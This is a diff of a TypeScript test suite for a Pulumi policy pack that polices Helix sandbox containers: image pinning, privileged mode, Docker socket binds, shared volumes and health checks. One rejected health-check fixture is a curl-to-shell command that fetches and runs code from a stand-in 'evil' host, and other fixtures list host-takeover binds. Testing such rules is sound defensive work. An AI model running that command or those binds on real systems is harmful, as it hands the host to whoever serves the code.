@@ -1,7 +1,10 @@
 // The sandbox policies on hand-built arguments: a compliant sandbox as Helix's install.sh runs
 // one (fixtures.ts), one property changed per test; and the runner policies left quiet on it.
 import type { ResourceValidationPolicy, StackValidationPolicy } from "@pulumi/policy";
+import * as policySdk from "@pulumi/policy";
 import { Secret } from "@pulumi/policy";
+import * as policyProxy from "@pulumi/policy/proxy";
+import { SANDBOX_HEALTHCHECK_COMMAND, sandboxImagePinProblem } from "../../contract";
 import { imagePinned } from "../../policy/lifecycle";
 import { noHostTakeover } from "../../policy/network";
 import { policies } from "../../policy/policies";
@@ -21,15 +24,20 @@ import { Fixture, stackViolationsOf, violationsOf } from "./harness";
 
 const DIGEST = "sha256:" + "b".repeat(64);
 
-/** Every policy of the pack on `fixtures`, as "policy-name: message". */
-async function runPack(fixtures: Fixture[]): Promise<string[]> {
+// The policy SDK's own proxy and sentinel for a value unknown during preview (run-time exports, not in its typings).
+const { unknownCheckingProxy } = policySdk as unknown as { unknownCheckingProxy: <T>(value: T) => T };
+const { unknownStringValue: UNKNOWN_STRING } = policyProxy as unknown as { unknownStringValue: string };
+
+/** Every policy of the pack on `fixtures`, as "policy-name: message", each policy with its config from `config`. */
+async function runPack(fixtures: Fixture[], config: Record<string, Record<string, unknown>> = {}): Promise<string[]> {
     const found: string[] = [];
     for (const policy of policies) {
+        const own = config[policy.name] ?? {};
         if ("validateStack" in policy) {
-            for (const v of await stackViolationsOf(policy as StackValidationPolicy, fixtures)) found.push(`${policy.name}: ${v}`);
+            for (const v of await stackViolationsOf(policy as StackValidationPolicy, fixtures, own)) found.push(`${policy.name}: ${v}`);
         } else {
             for (const f of fixtures)
-                for (const v of await violationsOf(policy as ResourceValidationPolicy, f)) found.push(`${policy.name}: ${v}`);
+                for (const v of await violationsOf(policy as ResourceValidationPolicy, f, own)) found.push(`${policy.name}: ${v}`);
         }
     }
     return found;
@@ -46,14 +54,25 @@ describe("recognising a sandbox", () => {
         }
     });
 
-    it("does not know an image ID, a mirror or a look-alike as the sandbox image", () => {
+    it("knows a mirror by its repository's last component on any registry, however the registry host is spelled", () => {
+        for (const image of [
+            "registry.example.com/helixml/helix-sandbox:2.12.2",
+            "MIRROR.EXAMPLE.COM./helixml/helix-sandbox:2.12.2",
+            "mirror.example.com:5000/helix-sandbox@" + DIGEST,
+            "helixml/helix-sandbox:2.12.2",
+        ]) {
+            expect({ image, sandbox: isSandbox({ image }) }).toEqual({ image, sandbox: true });
+        }
+    });
+
+    it("does not know an image ID or a look-alike as the sandbox image", () => {
         for (const image of [
             DIGEST,
-            "registry.example.com/helixml/helix-sandbox:2.12.2",
             "ghcr.io/helixml/helix-sandbox-dev:2.12.2",
             "ghcr.io/helixml/helix:2.12.2",
+            "ghcr.io/helixml/not-helix-sandbox:1",
         ]) {
-            expect(isSandbox({ image })).toBe(false);
+            expect({ image, sandbox: isSandbox({ image }) }).toEqual({ image, sandbox: false });
         }
         expect(isSandbox({})).toBe(false);
     });
@@ -91,19 +110,19 @@ describe("sandbox-privileged-only", () => {
         expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `ghcr.io/helixml/helix-sandbox@${DIGEST}` }))).toEqual([]);
     });
 
-    it("fails any other privileged container, a mirror of the sandbox image included", async () => {
+    /** What a sandbox (by its SANDBOX_INSTANCE_ID or its image's name) running another image than Helix's is told. */
+    const notHelixs = (image: string) =>
+        "Container set up as a Helix sandbox (SANDBOX_INSTANCE_ID, or an image named .../helix-sandbox) must run Helix's sandbox image (ghcr.io/helixml/helix-sandbox) " +
+        `or a mirror of it listed in sandboxImageMirrors, and this one runs "${image}". ` +
+        "Give its image as a repository (ghcr.io/helixml/helix-sandbox:<release> or a RemoteImage's repoDigest, not an image ID).";
+
+    it("fails any other privileged container; an unlisted mirror is a sandbox that runs an image it may not", async () => {
         expect(await violationsOf(sandboxPrivilegedOnly, other({ image: "docker:27-dind", privileged: true }))).toEqual([
             refused("docker:27-dind"),
         ]);
         const mirror = "registry.example.com/helixml/helix-sandbox:2.12.2";
-        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: mirror, privileged: true }))).toEqual([refused(mirror)]);
+        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: mirror, privileged: true }))).toEqual([notHelixs(mirror)]);
     });
-
-    /** What a sandbox (by its SANDBOX_INSTANCE_ID) running another image than Helix's is told. */
-    const notHelixs = (image: string) =>
-        "Container set up as a Helix sandbox (SANDBOX_INSTANCE_ID) must run Helix's sandbox image (ghcr.io/helixml/helix-sandbox) " +
-        `or a mirror of it listed in sandboxImageMirrors, and this one runs "${image}". ` +
-        "Give its image as a repository (ghcr.io/helixml/helix-sandbox:<release> or a RemoteImage's repoDigest, not an image ID).";
 
     it("tells a sandbox started from an image ID how to be recognised", async () => {
         expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: DIGEST }))).toEqual([notHelixs(DIGEST)]);
@@ -125,15 +144,54 @@ describe("sandbox-privileged-only", () => {
             const published = sandbox({ image: `${MIRROR}:2.12.2`, ports: [{ internal: 8080, external: 8080 }] });
             expect(isSandbox(published.props)).toBe(true);
             expect(await violationsOf(sandboxNoPublishedPorts, published)).toHaveLength(1);
-            expect(await violationsOf(sandboxImagePinned, sandbox({ image: `${MIRROR}:latest` }))).toHaveLength(1);
+            expect(await stackViolationsOf(sandboxImagePinned, [sandbox({ image: `${MIRROR}:latest` })])).toHaveLength(1);
         });
 
-        it("is refused privileged when it is not set up as a sandbox, listed or not: no sandbox rule would hold it", async () => {
-            const bare = other({ image: `${MIRROR}:2.12.2`, privileged: true });
-            expect(await violationsOf(sandboxPrivilegedOnly, bare, MIRRORS)).toEqual([
-                `Container runs "${MIRROR}:2.12.2", a mirror of Helix's sandbox image, privileged but not set up as a sandbox (no SANDBOX_INSTANCE_ID): ` +
-                    "the sandbox rules could not hold it. Run it as a sandbox, with its instance ID.",
+        it("is a sandbox by its name without SANDBOX_INSTANCE_ID, privileged or not, so every sandbox rule holds it", async () => {
+            const bare = other({
+                image: `${MIRROR}:2.12.2`,
+                envs: ["RUNNER_TOKEN=a-real-runner-token-9f8e7d", "HELIX_API_URL=http://helix.example.com"],
+                volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/var/run/docker.sock" }],
+                ports: [{ internal: 8080, external: 8080 }],
+            });
+            expect(isSandbox(bare.props)).toBe(true);
+            const found = await runPack([bare], { "sandbox-privileged-only": MIRRORS });
+            for (const policy of [
+                "sandbox-no-docker-socket",
+                "sandbox-no-published-ports",
+                "api-host-tls",
+                "sandbox-ids-unique",
+                "sandbox-own-volumes",
+                "sandbox-token-secret",
+            ])
+                expect(found.some((v) => v.startsWith(`${policy}: `))).toBe(true);
+        });
+
+        it("is refused outright when it is renamed and not set up as a sandbox: nothing else would know it for one", async () => {
+            const renamed = "mirror.example.com/helix/sbx";
+            const config = { sandboxImageMirrors: [renamed], allowedPrivilegedImages: [] };
+            const message = (image: string) =>
+                `Container runs "${image}", a mirror of Helix's sandbox image listed in sandboxImageMirrors, but is not set up as a sandbox (no SANDBOX_INSTANCE_ID): ` +
+                "the sandbox rules could not hold it. Run it as a sandbox, with its instance ID.";
+            for (const changes of [
+                { privileged: true },
+                { privileged: false, volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/s" }] },
+                { capabilities: { adds: ["SYS_ADMIN"] } },
+                {},
+            ]) {
+                const bare = other({ image: `${renamed}:2.12.2`, ...changes });
+                expect(await violationsOf(sandboxPrivilegedOnly, bare, config)).toEqual([message(`${renamed}:2.12.2`)]);
+            }
+            // Listed in any spelling: the registry host's case, a trailing dot, a tag in the config.
+            const spelled = other({ image: `MIRROR.example.com./helix/sbx:latest` });
+            expect(await violationsOf(sandboxPrivilegedOnly, spelled, { ...config, sandboxImageMirrors: [`${renamed}:2.12.2`] })).toEqual([
+                message("MIRROR.example.com./helix/sbx:latest"),
             ]);
+            // Run as a sandbox, it is one, under every sandbox rule.
+            expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `${renamed}:2.12.2` }), config)).toEqual([]);
+            expect(
+                await violationsOf(sandboxNoPublishedPorts, sandbox({ image: `${renamed}:2.12.2`, publishAllPorts: true })),
+            ).toHaveLength(1);
         });
     });
 
@@ -222,9 +280,9 @@ describe("sandbox-no-docker-socket", () => {
         ["/run/docker.sock", "the Docker socket"],
         ["/var/run", "/var/run, which holds the Docker socket"],
         ["/run/", "/run, which holds the Docker socket"],
-        ["/run/containerd/containerd.sock", "the host's container engine (/run/containerd)"],
-        ["/var/run/docker/plugins", "the host's container engine (/run/docker)"],
-        ["/var/lib/docker", "the host's container engine (/var/lib/docker)"],
+        ["/run/containerd/containerd.sock", "/run/containerd/containerd.sock, a container engine's socket"],
+        ["/var/run/docker/plugins", "/var/run/docker/plugins, inside a container engine's folder (/run/docker)"],
+        ["/var/lib/docker", "/var/lib/docker, a container engine's folder"],
         ["/", "the host's root folder"],
         ["/etc", "the host's system folder /etc"],
     ])("fails a bind of %s", async (hostPath, what) => {
@@ -262,7 +320,7 @@ describe("sandbox-no-docker-socket", () => {
             refused("the Docker socket", "/var/run/docker.sock"),
         ]);
         expect(await violationsOf(sandboxNoDockerSocket, binding("/run/containerd"), config)).toEqual([
-            refused("the host's container engine (/run/containerd)", "/run/containerd"),
+            refused("/run/containerd, a container engine's folder", "/run/containerd"),
         ]);
     });
 
@@ -285,8 +343,13 @@ describe("sandbox-no-docker-socket", () => {
 });
 
 describe("sandbox-image-pinned", () => {
-    const WHY = "Hydra's API changes between releases, so the sandbox must run the control plane's own release";
     const withImage = (image: string | undefined) => sandbox({ image });
+    const pulled = (props: Record<string, string>, name = "sandbox-image"): Fixture => ({ type: REMOTE_IMAGE, name, props });
+    /** What the pack says of sandbox-1's image: the contract's own verdict on it, the program's. */
+    const refused = (image: string, problem = sandboxImagePinProblem(image)) => {
+        expect(problem).toBeDefined();
+        return `Sandbox container sandbox-1's image "${image}" ${problem}.`;
+    };
 
     it.each([
         "ghcr.io/helixml/helix-sandbox:2.12.2",
@@ -294,79 +357,168 @@ describe("sandbox-image-pinned", () => {
         "ghcr.io/helixml/helix-sandbox:2.13.0-rc1",
         // Helix's release candidates of 2.5.42 already attach machines as sandboxes.
         "ghcr.io/helixml/helix-sandbox:2.5.42-rc1",
-        // A container given its RemoteImage's repoDigest: the RemoteImage's name carries the release, and is checked.
-        `ghcr.io/helixml/helix-sandbox@${DIGEST}`,
         `ghcr.io/helixml/helix-sandbox:2.12.2@${DIGEST}`,
+        // The registry host in any case, as the engine reads it.
+        "GHCR.IO/helixml/helix-sandbox:2.12.2",
     ])("passes %s", async (image) => {
-        expect(await violationsOf(sandboxImagePinned, withImage(image))).toEqual([]);
+        expect(await stackViolationsOf(sandboxImagePinned, [withImage(image)])).toEqual([]);
     });
 
-    it("fails latest and untagged, with the reason", async () => {
-        expect(await violationsOf(sandboxImagePinned, withImage("ghcr.io/helixml/helix-sandbox:latest"))).toEqual([
-            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not "ghcr.io/helixml/helix-sandbox:latest": ${WHY}.`,
-        ]);
-        expect(await violationsOf(sandboxImagePinned, withImage("ghcr.io/helixml/helix-sandbox"))).toEqual([
-            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not untagged "ghcr.io/helixml/helix-sandbox" (Docker reads that as latest): ${WHY}.`,
-        ]);
-        // A digest does not skip the release check: the tag beside it says which release the digest is.
-        expect(await violationsOf(sandboxImagePinned, withImage(`ghcr.io/helixml/helix-sandbox:latest@${DIGEST}`))).toEqual([
-            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not "ghcr.io/helixml/helix-sandbox:latest@${DIGEST}": ${WHY}.`,
-        ]);
+    it("fails latest and untagged, with the program's reason", async () => {
+        for (const image of [
+            "ghcr.io/helixml/helix-sandbox:latest",
+            "ghcr.io/helixml/helix-sandbox",
+            // A digest does not skip the release check: the tag beside it says which release the digest is.
+            `ghcr.io/helixml/helix-sandbox:latest@${DIGEST}`,
+        ]) {
+            const found = await stackViolationsOf(sandboxImagePinned, [withImage(image)]);
+            expect(found).toEqual([refused(image)]);
+            expect(found[0]).toMatch(/latest/);
+        }
     });
 
-    it("fails a tag that is not a release", async () => {
-        expect(await violationsOf(sandboxImagePinned, withImage("ghcr.io/helixml/helix-sandbox:main"))).toEqual([
-            `Sandbox image's tag "main" must be a Helix release such as 2.12.2 or 2.13.0-rc1 (the control plane's own version; no leading 'v').`,
-        ]);
+    it.each(["main", "v2.12.2", "2.5.41", "2.4.0-rc8", "2.5.41-rc1", "1.99.99"])(
+        "fails the tag %s, which is no Helix release with the sandbox: the contract's release grammar",
+        async (tag) => {
+            const image = `ghcr.io/helixml/helix-sandbox:${tag}`;
+            expect(await stackViolationsOf(sandboxImagePinned, [withImage(image)])).toEqual([refused(image)]);
+        },
+    );
+
+    it("fails a malformed digest beside a release tag, as the program does", async () => {
+        const image = "ghcr.io/helixml/helix-sandbox:2.12.2@sha256:xyz";
+        expect(await stackViolationsOf(sandboxImagePinned, [withImage(image)])).toEqual([refused(image)]);
     });
 
-    it.each(["2.5.41", "2.4.0-rc8", "2.5.41-rc1", "1.99.99"])("fails %s, a release before the sandbox", async (tag) => {
-        expect(await violationsOf(sandboxImagePinned, withImage(`ghcr.io/helixml/helix-sandbox:${tag}`))).toEqual([
-            `Sandbox image's tag "${tag}" must be 2.5.42 or later: earlier control planes take runners, not sandboxes (use the runner workload).`,
-        ]);
+    describe("a digest without a tag, as the program gives a container its RemoteImage's repoDigest", () => {
+        const byDigest = `ghcr.io/helixml/helix-sandbox@${DIGEST}`;
+        const remote = (name: string) => pulled({ name, repoDigest: byDigest, imageId: `sha256:${"c".repeat(64)}` });
+
+        it("passes when a RemoteImage of the stack pulled it by a release tag", async () => {
+            expect(
+                await stackViolationsOf(sandboxImagePinned, [withImage(byDigest), remote("ghcr.io/helixml/helix-sandbox:2.12.2")]),
+            ).toEqual([]);
+            // The mocks' repoDigest keeps the tag; a name with the digest beside its tag is the same pull.
+            expect(
+                await stackViolationsOf(sandboxImagePinned, [
+                    withImage(byDigest),
+                    pulled({ name: `ghcr.io/helixml/helix-sandbox:2.12.2@${DIGEST}` }),
+                ]),
+            ).toEqual([]);
+        });
+
+        it("fails when no RemoteImage pulled it: the digest would skip the release check", async () => {
+            const found = await stackViolationsOf(sandboxImagePinned, [withImage(byDigest)]);
+            expect(found).toEqual([
+                `Sandbox container sandbox-1's image "${byDigest}" ${sandboxImagePinProblem(byDigest)}, and no RemoteImage of the stack pulls it with a release tag.`,
+            ]);
+            // A RemoteImage of another release, or of the same digest in another repository, is not its source.
+            const other = pulled({
+                name: "ghcr.io/helixml/helix-sandbox:2.4.0",
+                repoDigest: `ghcr.io/helixml/helix-sandbox@sha256:${"d".repeat(64)}`,
+            });
+            const elsewhere = pulled(
+                { name: "evil.example.com/helix-sandbox:2.12.2", repoDigest: `evil.example.com/helix-sandbox@${DIGEST}` },
+                "evil",
+            );
+            const withOthers = await stackViolationsOf(sandboxImagePinned, [withImage(byDigest), other, elsewhere]);
+            expect(withOthers).toContain(found[0]);
+        });
+
+        it("fails through its RemoteImage when that pulled latest or an old release", async () => {
+            expect(
+                await stackViolationsOf(sandboxImagePinned, [withImage(byDigest), remote("ghcr.io/helixml/helix-sandbox:latest")]),
+            ).toEqual([
+                `RemoteImage sandbox-image's sandbox image "ghcr.io/helixml/helix-sandbox:latest" ${sandboxImagePinProblem("ghcr.io/helixml/helix-sandbox:latest")}.`,
+            ]);
+        });
+
+        it("checks a renamed mirror's RemoteImage that feeds a sandbox, by value or by Pulumi's dependency", async () => {
+            const mirror = "mirror.example.com/helix/sbx";
+            const feed = pulled({ name: `${mirror}:latest`, repoDigest: `${mirror}@${DIGEST}` });
+            const expected = `RemoteImage sandbox-image's sandbox image "${mirror}:latest" ${sandboxImagePinProblem(`${mirror}:latest`)}.`;
+            expect(await stackViolationsOf(sandboxImagePinned, [withImage(`${mirror}@${DIGEST}`), feed])).toEqual([expected]);
+            // During a preview the repoDigest is not known yet; the dependency is.
+            const previewed = {
+                ...sandbox(),
+                props: unknownCheckingProxy({ ...sandboxProps(), image: UNKNOWN_STRING }),
+                propertyDependencies: { image: ["sandbox-image"] },
+            };
+            expect(await stackViolationsOf(sandboxImagePinned, [previewed, pulled({ name: `${mirror}:latest` })])).toEqual([expected]);
+        });
+
+        it("fails a mirror's digest alone with no RemoteImage", async () => {
+            const image = `mirror.example.com/helix/sbx@${DIGEST}`;
+            expect(await stackViolationsOf(sandboxImagePinned, [withImage(image)])).toHaveLength(1);
+        });
     });
 
-    it("fails a v-prefixed tag, as the program does: Helix's images are tagged without one", async () => {
-        expect(await violationsOf(sandboxImagePinned, withImage("ghcr.io/helixml/helix-sandbox:v2.12.2"))).toEqual([
-            `Sandbox image's tag "v2.12.2" must be a Helix release such as 2.12.2 or 2.13.0-rc1 (the control plane's own version; no leading 'v').`,
-        ]);
+    describe("an image ID", () => {
+        const ID = `sha256:${"c".repeat(64)}`;
+
+        it("says it names no release, not that its hex is a bad tag", async () => {
+            const found = await stackViolationsOf(sandboxImagePinned, [withImage(ID)]);
+            expect(found).toEqual([
+                `Sandbox container sandbox-1's image "${ID}" is an image ID, which names no repository and no release, and no RemoteImage of the stack has that ID: ` +
+                    "give it ghcr.io/helixml/helix-sandbox:<release>, or the repoDigest of a RemoteImage that pulls one, so which Helix release it runs can be checked.",
+            ]);
+            expect(found[0]).not.toMatch(/tag "c+"/);
+        });
+
+        it("is checked through the RemoteImage with that ID, as a container's state holds it after `pulumi up`", async () => {
+            const remote = (name: string) => pulled({ name, imageId: ID, repoDigest: `ghcr.io/helixml/helix-sandbox@${DIGEST}` });
+            expect(await stackViolationsOf(sandboxImagePinned, [withImage(ID), remote("ghcr.io/helixml/helix-sandbox:2.12.2")])).toEqual(
+                [],
+            );
+            expect(
+                await stackViolationsOf(sandboxImagePinned, [withImage(ID), remote("ghcr.io/helixml/helix-sandbox:2.4.0")]),
+            ).toHaveLength(1);
+        });
     });
 
     it("holds a mirror to the same release rules, as a sandbox's image and as a pulled RemoteImage", async () => {
         const mirror = "registry.example.com/helixml/helix-sandbox";
-        expect(await violationsOf(sandboxImagePinned, withImage(`${mirror}:2.12.2`))).toEqual([]);
-        expect(await violationsOf(sandboxImagePinned, withImage(`${mirror}:latest`))).toEqual([
-            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not "${mirror}:latest": ${WHY}.`,
-        ]);
-        const pulled = (name: string): Fixture => ({ type: REMOTE_IMAGE, name: "sandbox-image", props: { name } });
-        expect(await violationsOf(sandboxImagePinned, pulled(`${mirror}@${DIGEST}`))).toEqual([
-            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not untagged "${mirror}@${DIGEST}" (Docker reads that as latest): ${WHY}.`,
+        expect(await stackViolationsOf(sandboxImagePinned, [withImage(`${mirror}:2.12.2`)])).toEqual([]);
+        expect(await stackViolationsOf(sandboxImagePinned, [withImage(`${mirror}:latest`)])).toEqual([refused(`${mirror}:latest`)]);
+        expect(await stackViolationsOf(sandboxImagePinned, [pulled({ name: `${mirror}@${DIGEST}` })])).toEqual([
+            `RemoteImage sandbox-image's sandbox image "${mirror}@${DIGEST}" ${sandboxImagePinProblem(`${mirror}@${DIGEST}`)}.`,
         ]);
     });
 
     it("ignores a container with no image or another image", async () => {
-        expect(await violationsOf(sandboxImagePinned, withImage(undefined))).toEqual([]);
-        expect(await violationsOf(sandboxImagePinned, runner({ image: "registry.example.com/helix-zed-agent:latest" }))).toEqual([]);
+        expect(await stackViolationsOf(sandboxImagePinned, [withImage(undefined)])).toEqual([]);
+        expect(await stackViolationsOf(sandboxImagePinned, [runner({ image: "registry.example.com/helix-zed-agent:latest" })])).toEqual([]);
+        expect(await stackViolationsOf(sandboxImagePinned, [pulled({ name: "nginx:latest" })])).toEqual([]);
     });
 
     it("holds every sandbox to requiredRelease from the pack's config", async () => {
-        expect(await violationsOf(sandboxImagePinned, sandbox(), { requiredRelease: "2.12.2" })).toEqual([]);
-        expect(await violationsOf(sandboxImagePinned, sandbox(), { requiredRelease: "2.12.3" })).toEqual([
-            `Sandbox image's tag must be the control plane's release 2.12.3, not "2.12.2": ${WHY}.`,
+        expect(await stackViolationsOf(sandboxImagePinned, [sandbox()], { requiredRelease: "2.12.2" })).toEqual([]);
+        expect(await stackViolationsOf(sandboxImagePinned, [sandbox()], { requiredRelease: "2.12.3" })).toEqual([
+            refused(
+                "ghcr.io/helixml/helix-sandbox:2.12.2",
+                "has the tag 2.12.2, but the control plane runs 2.12.3 (requiredRelease): Hydra's API changes between releases, so a sandbox must run its control plane's release",
+            ),
         ]);
     });
 
-    it("checks the pulled RemoteImage, which carries the release when the container has only its repoDigest", async () => {
-        const pulled = (name: string): Fixture => ({ type: REMOTE_IMAGE, name: "sandbox-image", props: { name } });
-        expect(await violationsOf(sandboxImagePinned, pulled("ghcr.io/helixml/helix-sandbox:2.12.2"))).toEqual([]);
-        expect(await violationsOf(sandboxImagePinned, pulled("ghcr.io/helixml/helix-sandbox:latest"))).toEqual([
-            `Sandbox image must be tagged with a Helix release (like ghcr.io/helixml/helix-sandbox:2.12.2, a digest beside it or not), not "ghcr.io/helixml/helix-sandbox:latest": ${WHY}.`,
-        ]);
-        // image-pinned leaves the sandbox image to this policy, so it is reported once, and still checks other images.
-        expect(await violationsOf(imagePinned, pulled("ghcr.io/helixml/helix-sandbox:latest"))).toEqual([]);
-        expect(await violationsOf(imagePinned, pulled("nginx:latest"))).toEqual([
+    it("checks a pulled RemoteImage named like the sandbox's, and leaves it out of image-pinned so it is reported once", async () => {
+        expect(await stackViolationsOf(sandboxImagePinned, [pulled({ name: "ghcr.io/helixml/helix-sandbox:2.12.2" })])).toEqual([]);
+        expect(await stackViolationsOf(sandboxImagePinned, [pulled({ name: "ghcr.io/helixml/helix-sandbox:latest" })])).toHaveLength(1);
+        expect(await violationsOf(imagePinned, pulled({ name: "ghcr.io/helixml/helix-sandbox:latest" }))).toEqual([]);
+        expect(await violationsOf(imagePinned, pulled({ name: "nginx:latest" }))).toEqual([
             'Pulled image must be pinned by digest or tag, not "nginx:latest".',
         ]);
+    });
+
+    it("judges what a preview knows and skips a value it does not, rather than the whole stack", async () => {
+        const unknownImage = sandbox();
+        const props = unknownCheckingProxy({ ...unknownImage.props, image: UNKNOWN_STRING });
+        const found = await stackViolationsOf(sandboxImagePinned, [
+            { ...unknownImage, props },
+            pulled({ name: "ghcr.io/helixml/helix-sandbox:latest" }),
+        ]);
+        expect(found).toHaveLength(1);
+        expect(found[0]).toMatch(/^RemoteImage sandbox-image's/);
     });
 });
 
@@ -458,6 +610,93 @@ describe("sandbox-own-volumes", () => {
         ).toEqual([]);
     });
 
+    describe("a sandbox's volumes and folders are its own: nothing else on its Docker host mounts them", () => {
+        const postgres = (volumes: object[], extra: Partial<Fixture> = {}): Fixture => ({
+            type: CONTAINER,
+            name: "postgres",
+            props: { name: "helix-postgres", image: "postgres:16", volumes },
+            ...extra,
+        });
+        const sharing = (what: string, source: string, path: string, others = "postgres", verb = "is") =>
+            `Sandbox container sandbox-1 must not share its ${what} "${source}" (at ${path}) with ${others}, which ${verb} not a sandbox: ` +
+            "what else mounts it can change what the privileged sandbox runs or read what it keeps.";
+
+        it("fails a named volume another container mounts, at any of the sandbox's folders", async () => {
+            const taken = sandbox({ volumes: volumes(1, { "/data": { volumeName: "helix_postgres-data", containerPath: "/data" } }) });
+            expect(
+                await stackViolationsOf(sandboxOwnVolumes, [
+                    taken,
+                    postgres([{ volumeName: "helix_postgres-data", containerPath: "/var/lib/postgresql/data" }]),
+                ]),
+            ).toEqual([sharing("volume", "helix_postgres-data", "/data")]);
+            // The sandbox's own named volume, mounted by a runner or a service.
+            const service: Fixture = {
+                type: SERVICE,
+                name: "svc",
+                props: {
+                    name: "svc",
+                    taskSpec: {
+                        containerSpec: { image: "x:1", mounts: [{ type: "volume", source: "helix-sandbox-dev-1-docker", target: "/x" }] },
+                    },
+                },
+            };
+            const runnerTaking = runner({ volumes: [{ volumeName: "helix-sandbox-dev-1-docker", containerPath: "/cache" }] });
+            expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), { ...runnerTaking, name: "r" }, service])).toEqual([
+                sharing("volume", "helix-sandbox-dev-1-docker", "/var/lib/docker", "r, svc", "are"),
+            ]);
+        });
+
+        it("fails a host folder of the sandbox's that another container binds, or a folder holding it", async () => {
+            const bound = sandbox({ volumes: volumes(1, { "/data": { hostPath: "/srv/sandbox/data", containerPath: "/data" } }) });
+            for (const hostPath of ["/srv/sandbox/data", "/srv//sandbox/", "/srv/sandbox/data/ws-1"]) {
+                expect(await stackViolationsOf(sandboxOwnVolumes, [bound, postgres([{ hostPath, containerPath: "/x" }])])).toEqual([
+                    sharing("host folder", "/srv/sandbox/data", "/data"),
+                ]);
+            }
+            expect(
+                await stackViolationsOf(sandboxOwnVolumes, [bound, postgres([{ hostPath: "/srv/sandbox/other", containerPath: "/x" }])]),
+            ).toEqual([]);
+        });
+
+        it("fails a named volume that binds the sandbox's folder by another name", async () => {
+            const bound = sandbox({ volumes: volumes(1, { "/data": { hostPath: "/srv/sandbox/data", containerPath: "/data" } }) });
+            const volume: Fixture = {
+                type: "docker:index/volume:Volume",
+                name: "alias",
+                props: { name: "alias", driver: "local", driverOpts: { type: "none", o: "bind", device: "/srv/sandbox" } },
+            };
+            expect(
+                await stackViolationsOf(sandboxOwnVolumes, [bound, volume, postgres([{ volumeName: "alias", containerPath: "/x" }])]),
+            ).toEqual([sharing("host folder", "/srv/sandbox/data", "/data")]);
+        });
+
+        it("allows the same volume name on another Docker host, and another container's own volumes", async () => {
+            const elsewhere = postgres([{ volumeName: "helix-sandbox-dev-1-data", containerPath: "/x" }], {
+                provider: { urn: "urn:provider:b", host: "ssh://b" },
+            });
+            expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), elsewhere])).toEqual([]);
+            expect(
+                await stackViolationsOf(sandboxOwnVolumes, [
+                    sandbox(),
+                    postgres([{ volumeName: "pg", containerPath: "/var/lib/postgresql/data" }]),
+                ]),
+            ).toEqual([]);
+        });
+    });
+
+    it.each([
+        ["ssh://bücher.example.com", "ssh://xn--bcher-kva.example.com"],
+        ["ssh://ops@GPU-A.example.com.", "ssh://gpu-a.example.com:22"],
+        ["unix:///var/run/docker.sock", undefined],
+    ])("counts %s and %s as one Docker host", async (first, second) => {
+        const a = sandbox({}, { provider: { urn: "urn:provider:a", host: first } });
+        const b = sandbox({ volumes: sandboxProps(1).volumes }, { provider: { urn: "urn:provider:b", host: second } }, 2);
+        expect(await stackViolationsOf(sandboxOwnVolumes, [a, b])).toHaveLength(3);
+        // A provider without a host reaches the local engine, as the default provider does.
+        const byDefault = sandbox({ volumes: sandboxProps(1).volumes }, {}, 2);
+        if (second === undefined) expect(await stackViolationsOf(sandboxOwnVolumes, [a, byDefault])).toHaveLength(3);
+    });
+
     it("ignores containers that are not sandboxes", async () => {
         expect(await stackViolationsOf(sandboxOwnVolumes, [runner(), { ...runner(), name: "runner-2" }])).toEqual([]);
     });
@@ -482,6 +721,28 @@ describe("sandbox-ids-unique", () => {
             2,
         );
         expect(await stackViolationsOf(sandboxIdsUnique, [sandbox(), other])).toEqual([
+            'Sandboxes must have unique SANDBOX_INSTANCE_IDs per control plane: "box-1" is used by sandbox-1, sandbox-2.',
+        ]);
+    });
+
+    it.each([
+        ["https://helix.example.com/", "https://HELIX.example.com."],
+        ["https://helix.example.com", "HTTPS://helix.example.com:443/"],
+        ["https://bücher.example.com", "https://xn--bcher-kva.example.com"],
+        ["http://api:8080", "http://API:8080/"],
+    ])("counts %s and %s as one control plane", async (first, second) => {
+        const spelled = (url: string, n: number) =>
+            sandbox(
+                {
+                    envs: [
+                        ...withSandboxEnv("HELIX_API_URL", url, n).filter((e) => !e.startsWith("SANDBOX_INSTANCE_ID=")),
+                        "SANDBOX_INSTANCE_ID=box-1",
+                    ],
+                },
+                {},
+                n,
+            );
+        expect(await stackViolationsOf(sandboxIdsUnique, [spelled(first, 1), spelled(second, 2)])).toEqual([
             'Sandboxes must have unique SANDBOX_INSTANCE_IDs per control plane: "box-1" is used by sandbox-1, sandbox-2.',
         ]);
     });
@@ -540,6 +801,102 @@ describe("sandbox-as-helix-runs-it", () => {
         ]);
     });
 
+    describe("runs nothing but Helix's image", () => {
+        it("passes the program's health check, or none (the image's own), and fails any other command", async () => {
+            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ healthcheck: { tests: [...SANDBOX_HEALTHCHECK_COMMAND] } }))).toEqual(
+                [],
+            );
+            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ healthcheck: undefined }))).toEqual([]);
+            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ healthcheck: { tests: ["NONE"] } }))).toEqual([]);
+            for (const tests of [
+                ["CMD-SHELL", "curl -s http://evil | sh"],
+                ["CMD", "docker", "info"],
+                [...SANDBOX_HEALTHCHECK_COMMAND, "; sh"],
+                SANDBOX_HEALTHCHECK_COMMAND.map((t) => t.replace("hydra.sock", "evil.sock")),
+            ]) {
+                expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ healthcheck: { tests, interval: "30s" } }))).toEqual([
+                    `Sandbox container's health check must be the program's, ${JSON.stringify(SANDBOX_HEALTHCHECK_COMMAND)}, or none (it sets ${JSON.stringify(tests)}): ` +
+                        "Docker runs it inside the privileged sandbox, with the runner token in its environment.",
+                ]);
+            }
+        });
+
